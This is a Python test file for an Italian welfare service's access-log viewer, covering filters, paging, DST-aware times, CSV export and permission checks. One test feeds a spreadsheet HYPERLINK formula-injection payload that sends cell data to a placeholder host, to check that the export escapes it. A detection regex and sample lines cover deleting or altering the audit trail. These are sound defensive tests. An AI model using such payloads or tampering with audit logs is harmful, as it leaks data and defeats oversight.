"""The access log read back (rete.accesslog) on SQLite and PostgreSQL: each filter narrows to
exactly its entries, paging gives every entry once and never reads the whole trail, Rome's
time across both DST changes, the CSV's cells stay text, "chi ha visto questo nucleo?" names
that household's readers only; list views throttled; nothing but the retention purge updates or
deletes an entry."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import event, func, select
from sqlalchemy.orm import Session

from rete import accesslog, audit, auth, records
from rete.accesslog import NO_USER, LogFilters
from rete.db import session_scope
from rete.errors import PermissionDenied
from rete.models import AuditEntry
from tests.actors import add_household, category, seed_places

ROOT = Path(__file__).resolve().parent.parent
UTC = dt.UTC


def person(cast: dict[str, int], name: str) -> auth.CurrentUser:
    roles = {"dora": "direzione", "olga": "operatore", "ada": "admin", "ugo": "operatore"}
    return auth.CurrentUser(cast[name], name, name.title(), roles[name])


def add(engine, at: dt.datetime, action: str = "household_viewed", **fields) -> int:
    """One entry as the write side makes it, at a chosen moment (UTC)."""
    with session_scope(engine) as session:
        entry = AuditEntry(at=at, action=action, **fields)
        session.add(entry)
        session.flush()
        return entry.id


def ids(rows) -> list[int]:
    return [row.id for row in rows]


def everything_matching(engine, filters: LogFilters) -> list[int]:
    return [row.id for row in accesslog.entries(engine, filters, chunk=7)]


@pytest.fixture
def trail(engine, cast) -> dict[str, int]:
    """Entries of three users, several actions and records, over a winter and a summer day;
    the cast's own account creations come before them. Name -> id."""
    olga, ada = cast["olga"], cast["ada"]
    winter = dt.datetime(2026, 2, 10, 9, 0, tzinfo=UTC)
    summer = dt.datetime(2026, 7, 10, 9, 0, tzinfo=UTC)
    return {
        "olga_views_12": add(
            engine, winter, user_id=olga, role="operatore", entity="household", entity_id=12
        ),
        "olga_views_13": add(
            engine, winter, user_id=olga, role="operatore", entity="household", entity_id=13
        ),
        "ada_views_12": add(
            engine, summer, user_id=ada, role="admin", entity="household", entity_id=12
        ),
        "olga_edits_interview_12": add(
            engine,
            summer,
            "interview_updated",
            user_id=olga,
            role="operatore",
            entity="interview",
            entity_id=12,
        ),
        "failed_login": add(engine, summer, "login_failed"),
        "ada_lists": add(
            engine, summer, "interviews_listed", user_id=ada, role="admin", summary="pagina 1"
        ),
    }


# --- Filters


@pytest.fixture(params=["range sorted", "index walked"])
def plan(request, monkeypatch) -> str:
    """Both ways a page is found: a period's (or a kind's) range sorted, or an index walked
    newest first (`accesslog.SORT_AT_MOST` decides; 0 makes every range too big to sort)."""
    if request.param == "index walked":
        monkeypatch.setattr(accesslog, "SORT_AT_MOST", 0)
    return request.param


def test_each_filter_narrows_to_exactly_its_entries(engine, cast, trail, plan):
    def matching(**chosen) -> set[int]:
        return set(everything_matching(engine, LogFilters(**chosen))) & set(trail.values())

    assert matching() == set(trail.values())
    assert matching(user_id=cast["olga"]) == {
        trail["olga_views_12"],
        trail["olga_views_13"],
        trail["olga_edits_interview_12"],
    }
    assert matching(user_id=NO_USER) == {trail["failed_login"]}
    assert matching(action="household_viewed") == {
        trail["olga_views_12"],
        trail["olga_views_13"],
        trail["ada_views_12"],
    }
    # The record is a kind and a number: household 12 is not interview 12.
    assert matching(entity="household", entity_id=12) == {
        trail["olga_views_12"],
        trail["ada_views_12"],
    }
    assert matching(entity="interview") == {trail["olga_edits_interview_12"]}
    assert matching(start=dt.date(2026, 7, 1)) == {
        trail["ada_views_12"],
        trail["olga_edits_interview_12"],
        trail["failed_login"],
        trail["ada_lists"],
    }
    assert matching(end=dt.date(2026, 2, 10)) == {trail["olga_views_12"], trail["olga_views_13"]}
    assert matching(start=dt.date(2026, 2, 11), end=dt.date(2026, 7, 9)) == set()
    assert matching(user_id=cast["olga"], action="household_viewed", entity="household") == {
        trail["olga_views_12"],
        trail["olga_views_13"],
    }
    assert matching(user_id=cast["dora"]) == set()


def test_a_row_says_who_in_which_role_what_and_on_which_record(engine, cast, trail):
    rows = {row.id: row for row in accesslog.page(engine, LogFilters()).rows}
    viewed = rows[trail["ada_views_12"]]
    assert (viewed.username, viewed.role, viewed.action, viewed.record) == (
        "ada",
        "Amministratore",
        "scheda nucleo consultata",
        "nucleo n. 12",
    )
    assert rows[trail["failed_login"]].username == "sconosciuto"
    assert rows[trail["ada_lists"]].summary == "pagina 1"


def test_the_filters_choices_are_the_users_and_the_actions_present(engine, cast, trail):
    choices = accesslog.options(engine)
    assert dict(choices.users)[cast["olga"]] == "olga"
    assert dict(choices.users)[NO_USER] == "sistema o sconosciuto"
    present = {code for code, _ in choices.actions}
    assert present == {
        "user_created",
        "household_viewed",
        "interview_updated",
        "login_failed",
        "interviews_listed",
    }
    labels = [label for _, label in choices.actions]
    assert labels == sorted(labels)
    assert ("household", "nucleo") in choices.entities


def test_the_filters_summary_names_numbers_and_labels_only(cast):
    chosen = LogFilters(
        user_id=cast["olga"],
        action="household_viewed",
        entity="household",
        entity_id=12,
        start=dt.date(2026, 3, 1),
        end=dt.date(2026, 3, 31),
    )
    assert chosen.summary() == (
        f"utente n. {cast['olga']}; azione: scheda nucleo consultata; oggetto: nucleo n. 12; "
        "dal 01/03/2026; al 31/03/2026"
    )
    assert LogFilters().summary() == "nessun filtro"


# --- Paging


@pytest.fixture
def many(engine, cast) -> list[int]:
    """103 entries by olga, one minute apart."""
    start = dt.datetime(2026, 5, 1, 8, 0, tzinfo=UTC)
    return [
        add(
            engine,
            start + dt.timedelta(minutes=n),
            user_id=cast["olga"],
            role="operatore",
            entity="household",
            entity_id=n,
        )
        for n in range(103)
    ]


class Statements:
    """The SQL statements an engine runs, while listening."""

    def __init__(self, engine):
        self.engine, self.seen = engine, []

    def __enter__(self):
        event.listen(self.engine, "before_cursor_execute", self._seen)
        return self

    def __exit__(self, *_):
        event.remove(self.engine, "before_cursor_execute", self._seen)

    def _seen(self, conn, cursor, statement, parameters, context, executemany):
        self.seen.append(statement)


@pytest.mark.parametrize(
    "filters",
    [LogFilters(), LogFilters(user_id=-1), LogFilters(action="household_viewed")],
    ids=["no filter", "user", "action"],
)
def test_paging_gives_every_entry_exactly_once_newest_first_and_reads_a_page_at_a_time(
    engine, cast, many, filters
):
    if filters.user_id == -1:
        filters = LogFilters(user_id=cast["olga"])
    expected = sorted(many, reverse=True)
    shown: list[int] = []
    before = None
    with Statements(engine) as statements:
        for _ in range(10):
            found = accesslog.page(engine, filters, before_id=before, size=25)
            assert len(found.rows) <= 25
            shown += ids(found.rows)
            if found.next_before is None:
                break
            assert found.next_before == found.rows[-1].id  # the next page starts before it
            before = found.next_before
    assert [i for i in shown if i in set(many)] == expected
    assert len(shown) == len(set(shown))
    reads = [s for s in statements.seen if "audit_entry" in s]
    assert reads and all(re.search(r"\bLIMIT\b", s) for s in reads), reads


def test_the_csv_reads_the_trail_in_chunks(engine, cast, many):
    with Statements(engine) as statements:
        rows = list(accesslog.entries(engine, LogFilters(user_id=cast["olga"]), chunk=30))
    assert ids(rows) == sorted(many, reverse=True)
    reads = [s for s in statements.seen if "audit_entry" in s]
    assert len(reads) == 4 and all("LIMIT" in s for s in reads)


# --- Time: stored in UTC, shown in Rome


def test_rome_time_is_shown_for_utc_entries_across_both_dst_changes(engine, cast):
    moments = {
        # 29/03/2026: clocks go from 02:00 to 03:00 (CET +1 to CEST +2)
        "before spring": dt.datetime(2026, 3, 29, 0, 30, tzinfo=UTC),
        "after spring": dt.datetime(2026, 3, 29, 1, 30, tzinfo=UTC),
        # 25/10/2026: clocks go back from 03:00 to 02:00: 02:30 happens twice
        "before autumn": dt.datetime(2026, 10, 25, 0, 30, tzinfo=UTC),
        "after autumn": dt.datetime(2026, 10, 25, 1, 30, tzinfo=UTC),
    }
    made = {name: add(engine, at, user_id=cast["olga"]) for name, at in moments.items()}
    rows = {row.id: row for row in accesslog.page(engine, LogFilters(user_id=cast["olga"])).rows}
    shown = {name: rows[id_].at for name, id_ in made.items()}
    assert shown == {
        "before spring": dt.datetime(2026, 3, 29, 1, 30),
        "after spring": dt.datetime(2026, 3, 29, 3, 30),
        "before autumn": dt.datetime(2026, 10, 25, 2, 30),
        "after autumn": dt.datetime(2026, 10, 25, 2, 30),
    }
    assert {name: rows[id_].at_utc for name, id_ in made.items()} == moments
    text = accesslog.to_csv(engine, LogFilters(user_id=cast["olga"])).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text), delimiter=";"))
    autumn = [line for line in lines if line[1] == "25/10/2026 02:30:00"]
    assert sorted(line[2] for line in autumn) == ["2026-10-25T00:30:00Z", "2026-10-25T01:30:00Z"]


def test_a_period_is_whole_days_in_rome_23_or_25_hours_long_at_a_dst_change(engine, cast, plan):
    olga = cast["olga"]
    inside = [
        add(engine, dt.datetime(2026, 3, 28, 23, 0, tzinfo=UTC), user_id=olga),  # 29/03 00:00
        add(engine, dt.datetime(2026, 3, 29, 21, 59, tzinfo=UTC), user_id=olga),  # 23:59
        add(engine, dt.datetime(2026, 10, 24, 22, 0, tzinfo=UTC), user_id=olga),  # 25/10 00:00
        add(engine, dt.datetime(2026, 10, 25, 22, 59, tzinfo=UTC), user_id=olga),  # 23:59
    ]
    add(engine, dt.datetime(2026, 3, 28, 22, 59, tzinfo=UTC), user_id=olga)  # 28/03 23:59
    add(engine, dt.datetime(2026, 3, 29, 22, 0, tzinfo=UTC), user_id=olga)  # 30/03 00:00
    add(engine, dt.datetime(2026, 10, 24, 21, 59, tzinfo=UTC), user_id=olga)  # 24/10 23:59
    add(engine, dt.datetime(2026, 10, 25, 23, 0, tzinfo=UTC), user_id=olga)  # 26/10 00:00
    spring = LogFilters(user_id=olga, start=dt.date(2026, 3, 29), end=dt.date(2026, 3, 29))
    autumn = LogFilters(user_id=olga, start=dt.date(2026, 10, 25), end=dt.date(2026, 10, 25))
    assert spring.bounds()[1] - spring.bounds()[0] == dt.timedelta(hours=23)
    assert autumn.bounds()[1] - autumn.bounds()[0] == dt.timedelta(hours=25)
    assert sorted(everything_matching(engine, spring)) == inside[:2]
    assert sorted(everything_matching(engine, autumn)) == inside[2:]


# --- The CSV


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_the_csv_writes_a_detail_a_spreadsheet_could_run_as_text(engine, cast, start):
    if start == "\0" and engine.dialect.name == "postgresql":
        pytest.skip("PostgreSQL text cannot hold NUL: no entry can start with it there")
    detail = f'{start}HYPERLINK("http://x.example/?"&A1;"clic")'
    add(engine, dt.datetime(2026, 5, 1, 8, 0, tzinfo=UTC), user_id=cast["olga"], summary=detail)
    content = accesslog.to_csv(engine, LogFilters(user_id=cast["olga"]))
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Italian Excel
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert lines[0] == list(accesslog.CSV_HEADER)
    assert [line[-1] for line in lines[1:]] == ["'" + detail]
    assert lines[1][4:7] == ["", "scheda nucleo consultata", ""]


def test_the_csv_holds_every_matching_entry_and_its_download_is_recorded(engine, cast, many):
    ada = person(cast, "ada")
    chosen = LogFilters(user_id=cast["olga"], start=dt.date(2026, 5, 1))
    content = accesslog.export_csv(engine, ada, chosen)
    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert [int(line[0]) for line in lines[1:]] == sorted(many, reverse=True)
    assert lines[1][1:4] == ["01/05/2026 11:42:00", "2026-05-01T09:42:00Z", "olga"]
    with Session(engine) as session:
        exported = session.scalars(
            select(AuditEntry).where(AuditEntry.action == "audit_exported")
        ).all()
    assert [(e.user_id, e.role, e.entity, e.summary) for e in exported] == [
        (ada.id, "admin", "audit", f"utente n. {cast['olga']}; dal 01/05/2026")
    ]


def test_only_the_administrator_downloads_the_trail(engine, cast):
    for name in ("olga", "dora"):
        with pytest.raises(PermissionDenied):
            accesslog.export_csv(engine, person(cast, name), LogFilters())
    with Session(engine) as session:
        assert not session.scalar(select(func.count()).where(AuditEntry.action == "audit_exported"))


# --- Who saw a household


@pytest.fixture
def two_households(engine, cast) -> dict[str, int]:
    """Households A and B, each with an interview and a need; A's need sent to nobody."""
    places = seed_places(engine)
    with session_scope(engine) as session:
        first = add_household(session, code="VA-100001", neighbourhood_id=places["Biumo"])
        second = add_household(session, code="VA-100002", neighbourhood_id=places["Biumo"])
        made = {"A": first.id, "B": second.id}
        for name, household in (("A", first), ("B", second)):
            interview = records.record_interview(
                session,
                person(cast, "olga"),
                household_id=household.id,
                held_on=dt.date(2026, 5, 4),
                channel_code="sportello",
                needs=[records.NeedInput(category(session, "ECO01"), "medium")],
                today=dt.date(2026, 5, 4),
            )
            made[f"{name} interview"] = interview.id
    return made


def test_who_saw_names_the_readers_of_that_household_only_newest_first(
    engine, cast, two_households
):
    a, b = two_households["A"], two_households["B"]
    olga, ada = person(cast, "olga"), person(cast, "ada")
    audit.record_access(engine, olga, "household_viewed", "household", a)
    audit.record_access(engine, ada, "household_viewed", "household", b)
    audit.record_access(engine, ada, "household_viewed", "household", a)
    audit.record_access(engine, ada, "interview_viewed", "interview", two_households["B interview"])
    audit.record_access(
        engine, olga, "interview_viewed", "interview", two_households["A interview"]
    )
    found = accesslog.who_saw(engine, olga, a)
    seen = [(row.username, row.role, row.action, row.record) for row in found.rows]
    a_interview = two_households["A interview"]
    assert seen[:3] == [
        ("olga", "Community manager", "colloquio consultato", f"colloquio n. {a_interview}"),
        ("ada", "Amministratore", "scheda nucleo consultata", f"nucleo n. {a}"),
        ("olga", "Community manager", "scheda nucleo consultata", f"nucleo n. {a}"),
    ]
    # Then the household's and its interview's creation, by the test's community manager.
    assert {row.action for row in found.rows[3:]} == {"nucleo creato", "colloquio registrato"}
    assert {row.record for row in found.rows} == {f"nucleo n. {a}", f"colloquio n. {a_interview}"}
    assert not found.more
    assert [row.id for row in found.rows] == sorted((row.id for row in found.rows), reverse=True)


def test_who_saw_lists_the_newest_and_says_there_are_more(engine, cast, two_households):
    a = two_households["A"]
    for n in range(5):
        add(
            engine,
            dt.datetime(2026, 6, 1, 8, n, tzinfo=UTC),
            user_id=cast["olga"],
            role="operatore",
            entity="household",
            entity_id=a,
        )
    found = accesslog.who_saw(engine, person(cast, "ada"), a, limit=3)
    assert len(found.rows) == 3 and found.more
    assert [row.at for row in found.rows] == [
        dt.datetime(2026, 6, 1, 10, n) for n in (4, 3, 2)
    ]  # 08:0n UTC is 10:0n in Rome in June


def test_direzione_may_not_ask_who_saw_a_household(engine, cast, two_households):
    with pytest.raises(PermissionDenied):
        accesslog.who_saw(engine, person(cast, "dora"), two_households["A"])


# --- Lists of personal data: one entry per user, list and filters in the window


def listed(engine) -> list[tuple[int | None, str | None, str, str | None, int | None]]:
    with Session(engine) as session:
        return [
            (e.user_id, e.role, e.action, e.summary, e.entity_id)
            for e in session.scalars(
                select(AuditEntry)
                .where(AuditEntry.action.in_(("interviews_listed", "followup_listed")))
                .order_by(AuditEntry.id)
            )
        ]


def test_a_list_seen_again_within_the_window_is_recorded_once(engine, cast):
    olga, ada = person(cast, "olga"), person(cast, "ada")
    for _ in range(3):  # reruns of the same view
        audit.record_list_view(engine, olga, "interviews_listed", "nessun filtro; pagina 1")
    assert listed(engine) == [
        (olga.id, "operatore", "interviews_listed", "nessun filtro; pagina 1", None)
    ]
    audit.record_list_view(engine, olga, "interviews_listed", "nessun filtro; pagina 2")
    audit.record_list_view(engine, olga, "followup_listed", "nessun filtro; pagina 1")
    audit.record_list_view(engine, ada, "interviews_listed", "nessun filtro; pagina 1")
    audit.record_list_view(
        engine, olga, "interviews_listed", "un nucleo per codice", entity="household", entity_id=7
    )
    audit.record_list_view(
        engine, olga, "interviews_listed", "un nucleo per codice", entity="household", entity_id=8
    )
    assert len(listed(engine)) == 6


def test_a_list_seen_again_after_the_window_is_recorded_again(engine, cast):
    olga = person(cast, "olga")
    audit.record_list_view(engine, olga, "interviews_listed", "pagina 1")
    audit.record_list_view(engine, olga, "interviews_listed", "pagina 1", window=dt.timedelta(0))
    assert len(listed(engine)) == 2


def test_a_list_view_moves_no_data_version(engine, cast):
    from rete.db import data_version

    before = data_version(engine)
    audit.record_list_view(engine, person(cast, "olga"), "interviews_listed", "pagina 1")
    assert data_version(engine) == before


# --- The code


def source_files() -> list[Path]:
    return [
        *(ROOT / "rete").rglob("*.py"),
        *(ROOT / "pages").glob("*.py"),
        ROOT / "app.py",
        *(ROOT / "bench").glob("*.py"),
    ]


CHANGES_THE_TRAIL = re.compile(
    r"(?:update|delete)\(\s*(?:AuditEntry|audit_entry)\b"  # Core's update()/delete()
    r"|AuditEntry\.__table__\.(?:update|delete)"
    r"|\b(?:UPDATE|DELETE\s+FROM|TRUNCATE(?:\s+TABLE)?)\s+[\"'`]?audit_entry\b"  # SQL text
    r"|\.query\(\s*AuditEntry\s*\)[^\n]*\.(?:update|delete)\(",
    re.IGNORECASE,
)


def test_no_module_but_the_retention_purge_updates_or_deletes_an_audit_entry():
    found = [
        f"{path.relative_to(ROOT)}: {match.group(0)}"
        for path in source_files()
        if path != ROOT / "rete" / "retention.py"
        for match in CHANGES_THE_TRAIL.finditer(path.read_text(encoding="utf-8"))
    ]
    assert not found, found


def test_the_static_check_would_find_a_delete_or_an_update():
    samples = [
        "session.execute(delete(AuditEntry).where(AuditEntry.id < 5))",
        "session.execute(update(AuditEntry).values(summary=''))",
        'connection.exec_driver_sql("DELETE FROM audit_entry")',
        "text('update audit_entry set summary = null')",
        "AuditEntry.__table__.delete()",
    ]
    assert all(CHANGES_THE_TRAIL.search(sample) for sample in samples)


def test_every_action_of_the_access_log_has_an_italian_label():
    pattern = re.compile(
        r"record_(?:access|export|list_view)\(\s*[\w.]+,\s*[\w.]+,\s*\"([a-z_]+)\"", re.S
    )
    actions = {
        action
        for path in source_files()
        for action in pattern.findall(path.read_text(encoding="utf-8"))
    }
    assert {"household_viewed", "interviews_listed", "audit_exported"} <= actions
    assert actions <= set(audit.ACTION_LABELS)
